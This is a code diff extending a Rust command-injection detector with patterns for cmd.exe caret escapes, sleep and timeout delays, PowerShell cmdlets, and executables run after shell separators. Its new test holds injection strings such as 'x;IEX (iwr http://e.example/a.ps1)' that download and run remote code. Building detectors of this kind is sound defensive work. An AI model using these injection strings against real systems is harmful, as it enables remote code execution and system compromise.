@@ -40,7 +40,7 @@ const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsol
 /// Commands that are an attack after a separator when an argument shape follows, together with
 /// [`TOOLS`] (see [`strong_commands`]). The Windows administration tools among them (`icacls`,
 /// `vssadmin`, `wevtutil`, ...) are no word of English or of any other program.
-const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount|hostname|netstat|lsof|arp|mysql|psql|sqlite3|node|npm|npx|jrunscript|tclsh|hexdump|useradd|usermod|groupadd|chattr|lsb_release|sendmail|printf|uniq|tac|wc|od|df|du|ip|bc|xz|7z|7za|jq|ln|apt(?:-get)?|yum|dnf|rpm|dpkg|lsblk|lscpu|lspci|lsusb|lsmod|modprobe|insmod|rmmod|iptables|tcpdump|tshark|ldd|objdump|readelf|uptime|vmstat|iostat|dmesg|journalctl|chroot|chpasswd|getent|pwd|printenv|whereis|basename|dirname|readlink|realpath|mktemp|mkdir|rmdir|shred|md5sum|sha1sum|sha256sum|base32|zcat|zgrep|bzip2|bunzip2|gunzip|unxz|unrar|cpio|renice|tmux|doas|pkexec|runuser|setsid|unshare|nsenter|capsh|setcap|getcap|xterm|nano|emacs|lynx|w3m|aria2c|sftp|smbclient|rlogin|rsh|whois|traceroute|arping|hping3|masscan|sqlmap|msfconsole|msfvenom|icacls|cacls|takeown|vssadmin|wevtutil|wbadmin|esentutl|ntdsutil|nltest|dsquery|diskpart|fsutil|cmdkey|certreq|setx|robocopy|xcopy|makecab|mofcomp|pnputil|driverquery|gpresult|nbtstat|tracert|pathping|quser|qwinsta|winrm|winrs|dnscmd|attrib|wusa|dism|sdbinst|cmstp|msbuild|installutil|regasm|regsvcs|odbcconf|ieexec|presentationhost|msdt)";
+const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount|hostname|netstat|lsof|arp|mysql|psql|sqlite3|node|npm|npx|jrunscript|tclsh|hexdump|useradd|usermod|groupadd|chattr|lsb_release|sendmail|printf|uniq|tac|wc|od|df|du|ip(?:\s+(?:a|addr|address|r|route|link|neigh|n))?|ps(?:\s+-?(?:aux|axu|ef|elf|ax))?|bc|xz|7z|7za|jq|ln|apt(?:-get)?|yum|dnf|rpm|dpkg|lsblk|lscpu|lspci|lsusb|lsmod|modprobe|insmod|rmmod|iptables|tcpdump|tshark|ldd|objdump|readelf|uptime|vmstat|iostat|dmesg|journalctl|chroot|chpasswd|getent|pwd|printenv|whereis|basename|dirname|readlink|realpath|mktemp|mkdir|rmdir|shred|md5sum|sha1sum|sha256sum|base32|zcat|zgrep|bzip2|bunzip2|gunzip|unxz|unrar|cpio|renice|tmux|doas|pkexec|runuser|setsid|unshare|nsenter|capsh|setcap|getcap|xterm|nano|emacs|lynx|w3m|aria2c|sftp|smbclient|rlogin|rsh|whois|traceroute|arping|hping3|masscan|sqlmap|msfconsole|msfvenom|icacls|cacls|takeown|vssadmin|wevtutil|wbadmin|esentutl|ntdsutil|nltest|dsquery|diskpart|fsutil|cmdkey|certreq|setx|robocopy|xcopy|makecab|mofcomp|pnputil|driverquery|gpresult|nbtstat|tracert|pathping|quser|qwinsta|winrm|winrs|dnscmd|attrib|wusa|dism|sdbinst|cmstp|msbuild|installutil|regasm|regsvcs|odbcconf|ieexec|presentationhost|msdt)";
 
 /// More programs, Unix and Windows, whose names are no word of prose (`bzcat`, `sshpass`,
 /// `sysctl`, `findstr`, `mklink`, `auditpol`): after a separator with an argument shape they are a
@@ -62,16 +62,16 @@ const TOOLS: &[&str] = &[
     "mountvol", "msinfo32", "mstsc", "msxsl", "mtr", "mutt", "mysqladmin", "mysqldump", "mysqlshow", "nasm", "nawk",
     "neofetch", "netdom", "nodejs", "nping", "nroff", "nstat", "ntbackup", "openfiles", "openvpn", "openvt", "opkg",
     "osql", "pacman", "pcalua", "pdb", "pdflatex", "pdftex", "perfmon", "perl5", "perlsh", "pftp", "pgrep",
-    "php-cgi", "pidstat", "pigz", "pktmon", "powershell_ise", "psftp", "ptar", "puppet", "pypy", "qprocess", "raku",
-    "rdpsign", "regini", "relog", "repadmin", "restic", "rexec", "rlwrap", "rmuser", "rnano", "rpcping", "rpmdb",
-    "rpmquery", "rpmverify", "run-mailcap", "run-parts", "rview", "rvim", "rwinsta", "scriptrunner", "secedit",
-    "setarch", "setfacl", "sfc", "shuf", "slsh", "soelim", "sqlcmd", "ssh-keygen", "ssh-keyscan", "sshpass",
-    "start-stop-daemon", "stdbuf", "subst", "svn", "sxstrace", "sysctl", "systemd-resolve", "systemd-run", "tailf",
-    "taskset", "tcping", "tcptraceroute", "timedatectl", "tpmtool", "traceroute6", "tracerpt", "troff", "tscon",
-    "tsdiscon", "tskill", "typeperf", "tzutil", "unlz4", "unlzma", "unpigz", "unzstd", "update-alternatives",
-    "userdel", "uudecode", "uuencode", "valgrind", "vbc", "vigr", "vimdiff", "vipw", "virsh", "waitfor", "wdsutil",
-    "wecutil", "winnt32", "wireshark", "wsl", "xelatex", "xetex", "xmodmap", "xzcat", "xzdec", "xzgrep", "xzless",
-    "yarn", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
+    "php-cgi", "pidstat", "pigz", "pktmon", "popd", "powershell_ise", "psftp", "ptar", "puppet", "pushd", "pypy",
+    "qprocess", "raku", "rdpsign", "regini", "relog", "repadmin", "restic", "rexec", "rlwrap", "rmuser", "rnano",
+    "rpcping", "rpmdb", "rpmquery", "rpmverify", "run-mailcap", "run-parts", "rview", "rvim", "rwinsta",
+    "scriptrunner", "secedit", "setarch", "setfacl", "sfc", "shuf", "slsh", "soelim", "sqlcmd", "ssh-keygen",
+    "ssh-keyscan", "sshpass", "start-stop-daemon", "stdbuf", "subst", "svn", "sxstrace", "sysctl", "systemd-resolve",
+    "systemd-run", "tailf", "taskset", "tcping", "tcptraceroute", "timedatectl", "tpmtool", "traceroute6",
+    "tracerpt", "troff", "tscon", "tsdiscon", "tskill", "typeperf", "tzutil", "unlz4", "unlzma", "unpigz", "unzstd",
+    "update-alternatives", "userdel", "uudecode", "uuencode", "valgrind", "vbc", "vigr", "vimdiff", "vipw", "virsh",
+    "waitfor", "wdsutil", "wecutil", "winnt32", "wireshark", "wsl", "xelatex", "xetex", "xmodmap", "xzcat", "xzdec",
+    "xzgrep", "xzless", "yarn", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
 ];
 
 /// The alternation of every command that counts after a separator with an argument shape:
@@ -85,8 +85,8 @@ pub(crate) fn strong_commands() -> String {
 /// (`;make -C /tmp`, `&tree c:\ /f`), which prose does not put there.
 const WORD_TOOLS: &[&str] = &[
     "arch", "batch", "cipher", "column", "compress", "convert", "diff", "expand", "fc", "fetch", "finger",
-    "go", "history", "install", "jobs", "join", "links", "locate", "look", "make", "paste", "patch", "pax", "rename",
-    "replace", "screen", "script", "service", "snap", "split", "su", "task", "tree", "wall", "watch",
+    "go", "history", "install", "jobs", "join", "links", "locate", "look", "make", "move", "paste", "patch", "pax", "rename",
+    "replace", "screen", "script", "service", "snap", "split", "ss", "su", "task", "tree", "wall", "watch",
 ];
 
 /// A value that starts with a configuration-management console or CLI (`ansible-console`,
@@ -112,6 +112,9 @@ fn is_probe(word: &[u8]) -> bool {
     let w = word.strip_suffix(b".exe").or_else(|| word.strip_suffix(b".EXE")).unwrap_or(word);
     PROBES.iter().any(|p| w.eq_ignore_ascii_case(p.as_bytes()))
 }
+
+/// PowerShell cmdlets that run code, fetch, or read and change the system. A regex.
+const POWERSHELL_CMDLETS: &str = "invoke-(?:expression|webrequest|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-(?:process|job|bitstransfer)|new-(?:object|service|itemproperty|localuser|scheduledtask(?:action)?)|get-(?:process|childitem|content|item|service|wmiobject|ciminstance|localuser|localgroupmember|aduser|adcomputer|acl|credential|clipboard|itemproperty|nettcpconnection)|set-(?:executionpolicy|mppreference|itemproperty|content|acl)|add-(?:mppreference|type|localgroupmember)|remove-(?:item|itemproperty|mppreference)|out-file|copy-item|move-item|stop-(?:process|service)|register-scheduledtask|convertto-securestring";
 
 /// Commands that are an attack after a separator whatever their arguments.
 const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|nslookup|ping|powershell|pwsh|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|systeminfo|lwp-download|tftp|ssh-copy-id|cmd)";
@@ -160,7 +163,7 @@ fn command_word<'b>(b: &[u8], mut i: usize, buf: &'b mut [u8; 24]) -> &'b [u8] {
         let c = b[i];
         read += 1;
         match c {
-            b'\'' | b'"' | b'\\' => i += 1,
+            b'\'' | b'"' | b'\\' | b'^' => i += 1,
             b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'!' | b'_' | b'0'..=b'9')) => i += 2,
             b'$' if b.get(i + 1) == Some(&b'{') && b.get(i + 2) == Some(&b'}') => i += 3,
             b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
@@ -206,7 +209,7 @@ fn hides_command(b: &[u8], i: usize) -> bool {
                 return w.len() >= 3 && is_command(w);
             }
             letters_before = true;
-        } else if matches!(c, b'\'' | b'"' | b'\\' | b'$') && letters_before {
+        } else if matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'^') && letters_before {
             evasion = true;
         }
         k += 1;
@@ -398,7 +401,7 @@ impl Cmdi {
         // variable, redirection, glob, or end of the value. A `+`
         // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
         // `ends` are the separators that may close the command (`;id;`, `|id|`).
-        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
+        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
@@ -434,6 +437,12 @@ impl Cmdi {
         // `;make -C /tmp`, `&tree c:\ /f`: an English word that names a program, with an option,
         // a path or a redirection right after it.
         let word_tool = format!(r"(?:;|&&|&|\||\$\(|`)\s*(?:{})\s+(?:--?[a-z]|/[a-z]|[<>]|[a-z]:\\)", WORD_TOOLS.join("|"));
+        // `; sleep 5`, `& timeout /t 5`, `| ping -n 5 x`: a delay that answers a blind injection,
+        // the number closing the command.
+        let delay = format!(r"{sep}\s*(?:sleep\s+\d+(?:\.\d+)?[smhd]?|timeout\s+/t\s+\d+)\s*(?:$|[;|&#`)])");
+        // PowerShell cmdlets that run, fetch or reach the system (`Invoke-Expression`,
+        // `Get-ChildItem`, `New-Object Net.WebClient`), and `iex`/`iwr` in their code shapes.
+        let powershell = format!(r"(?:^|{sep}|`)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
         let sqlite = format!(r"(?:^|[;\n])\s*\.(?:{})\b", SQLITE_DOT_COMMANDS.join("|"));
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
@@ -456,9 +465,9 @@ impl Cmdi {
             (glued.as_str(), High, 0.8, "command glued to a shell separator"),
             (start_then_sep.as_str(), High, 0.8, "command line"),
             (r"(?:^|[;&|\s])[a-z_][a-z0-9_]*=[^\s;&|]*\s*(?:[;|\n]|&&|\|\|)(?:.*(?:[;|\n]|&&|\|\|))?\s*\$\{?[a-z_][a-z0-9_]*\}?(?:\s|$)", High, 0.8, "command from an assigned variable"),
-            (r"(?:^|[\s;|&=<>(`+])/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
+            (r"(?:^|[\s;|&=<>(`+])(?:/usr(?:/local)?)?/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
             (substitution.as_str(), Critical, 0.85, "command substitution"),
-            (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
+            (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|%comspec%\s*/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
             (start_cmd.as_str(), High, 0.7, "command line"),
             (start_redirect.as_str(), High, 0.8, "command line with a redirection"),
             // A value that starts with a program in a system binary directory and its arguments.
@@ -474,6 +483,8 @@ impl Cmdi {
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
             (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
             (sqlite.as_str(), High, 0.8, "SQLite shell command"),
+            (delay.as_str(), High, 0.8, "delay command after a shell separator"),
+            (powershell.as_str(), High, 0.85, "PowerShell command"),
         ];
         let probe = format!(r"^\s*(?:{})(?:\.exe)?\s*$", PROBES.join("|"));
         Ok(Cmdi {
@@ -487,6 +498,8 @@ impl Cmdi {
                     // their hyphenated names are no word of prose.
                     (AUTOMATION_TOOL, High, 0.7, "automation tool command line"),
                     (&probe, High, 0.75, "reconnaissance command as the whole value"),
+                    // `& start calc.exe`, `;payload.bat`: an executable run by its file name.
+                    (r#"(?:;|&&|&|\||\$\(|`)\s*(?:start\s+(?:/[a-z]+\s+)*)?(?:"[^"]*\.(?:exe|bat|cmd|ps1|vbs|hta|scr)"|[a-z0-9_\\:.-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr))(?:\s|$)"#, High, 0.7, "executable run after a shell separator"),
                     // An SMTP verb alone on a line after a line break: a line of an SMTP session.
                     (r"\r?\n\s*(?:data|quit|rset|noop)\s*(?:\r?\n|$)", High, 0.7, "SMTP command injection"),
                     // Batch `IF a==b command` with any command: in a URL, header or form there is
@@ -500,7 +513,7 @@ impl Cmdi {
 
 /// Undoes shell-level obfuscation: quotes and backslashes inside words, empty expansions.
 fn shell_fold(text: &str) -> Cow<'_, str> {
-    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`')) {
+    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`' | b'^')) {
         return Cow::Borrowed(text);
     }
     let b = text.as_bytes();
@@ -511,6 +524,8 @@ fn shell_fold(text: &str) -> Cow<'_, str> {
             b'\'' | b'"' => i += 1,
             b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
             b'\\' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => i += 1,
+            // cmd.exe's escape inside a word (`wh^oami`, `c^m^d`).
+            b'^' if i > 0 && b[i - 1].is_ascii_alphanumeric() && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => i += 1,
             b'$' => match b.get(i + 1) {
                 Some(b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'0'..=b'9') => i += 2,
                 Some(b'{') => {
@@ -598,6 +613,23 @@ impl Check for Cmdi {
             lit("constructor"),
             lit("runinnewcontext"),
             lit("reflect."),
+            gated("invoke-", starts_word),
+            gated("start-", starts_word),
+            gated("new-", starts_word),
+            gated("get-", starts_word),
+            gated("set-", starts_word),
+            gated("add-", starts_word),
+            gated("remove-", starts_word),
+            gated("out-file", starts_word),
+            gated("copy-item", starts_word),
+            gated("move-item", starts_word),
+            gated("stop-", starts_word),
+            gated("register-scheduledtask", starts_word),
+            gated("convertto-securestring", starts_word),
+            lit("%comspec%"),
+            gated("iex", starts_word),
+            gated("iwr", starts_word),
+            gated("irm", starts_word),
             lit("execsync"),
             lit("execfilesync"),
             lit("spawnsync"),
@@ -1036,6 +1068,43 @@ mod tests {
             assert!(!flags("attack.cmdi", v), "{v}");
         }
         assert!(!any_flag_in_json("whoami"), "a word in a JSON text field");
+    }
+
+    #[test]
+    fn windows_escapes_delays_powershell_and_executables() {
+        for v in [
+            "x&wh^oami",
+            "x&c^m^d /c dir",
+            "x&%COMSPEC% /c dir",
+            "x;sleep 5",
+            "x|sleep 3;",
+            "a&timeout /t 9",
+            "x;Invoke-WebRequest http://e.example/a -OutFile a.exe",
+            "x|Get-ChildItem C:\\Users",
+            "x&powershell -nop | iex",
+            "x;IEX (iwr http://e.example/a.ps1)",
+            "x&start /b a.exe",
+            "x;chmod 777 /tmp/x",
+            "x;chmod u+x /tmp/x",
+            "x;ps aux",
+            "x;ip addr",
+            "x;/usr/bin/w?oami",
+            "x&move c:\\a c:\\b",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        for v in [
+            "Step 1; sleep 8 hours a night",
+            "Get-together on Friday; bring snacks",
+            "add-on | new-year sale; start-up costs",
+            "x^2 + y^2 = z^2",
+            "IEX exchange listing",
+            "Review: 5 stars; ps: thanks!",
+            "Files: report.exe; notes.txt",
+            "chmod 755 is common",
+        ] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
     }
 
     #[test]
